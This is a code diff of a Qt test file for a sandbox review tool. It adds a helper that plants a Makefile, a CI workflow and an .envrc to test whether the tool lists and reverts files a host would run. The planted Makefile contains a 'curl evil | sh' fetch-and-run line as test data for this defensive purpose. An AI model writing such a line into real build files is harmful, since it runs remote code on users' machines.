@@ -33,6 +33,17 @@ private:
                                               QStringLiteral("--name"), name} +
                                   extra + QStringList{m_repo, QStringLiteral("--"), script});
     }
+    /**
+     * In sandbox `planter`: a Makefile that runs something else, a CI workflow and an .envrc,
+     * what the host's tools would run. Review and revert each plant them, so each runs alone.
+     */
+    Finished plantHostFiles()
+    {
+        return runIn(QStringLiteral("planter"), QStringLiteral("printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; "
+                                                               "mkdir -p .github/workflows; "
+                                                               "echo 'on: push' > .github/workflows/ci.yml; "
+                                                               "echo 'export X=1' > .envrc"));
+    }
     QString read(const QString &relative) const
     {
         QFile file(m_repo + QLatin1Char('/') + relative);
@@ -83,10 +94,7 @@ void TestWorkspaceReview::plantedHooksAndConfigAreRefused()
 
 void TestWorkspaceReview::reviewListsWhatTheHostRunsWithADiff()
 {
-    const Finished run =
-        runIn(QStringLiteral("planter"), QStringLiteral("printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; "
-                                                        "mkdir -p .github/workflows; "
-                                                        "echo 'on: push' > .github/workflows/ci.yml"));
+    const Finished run = plantHostFiles();
     QVERIFY2(run.exitCode == 0, qPrintable(run.err));
     const Finished review = m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter")});
     QVERIFY2(review.exitCode == 0, qPrintable(review.err));
@@ -103,6 +111,8 @@ void TestWorkspaceReview::reviewListsWhatTheHostRunsWithADiff()
 
 void TestWorkspaceReview::revertPutsFilesBack()
 {
+    const Finished run = plantHostFiles();
+    QVERIFY2(run.exitCode == 0, qPrintable(run.err));
     for (const QString &path :
          {QStringLiteral("Makefile"), QStringLiteral(".github/workflows/ci.yml"), QStringLiteral(".envrc")}) {
         const Finished revert =
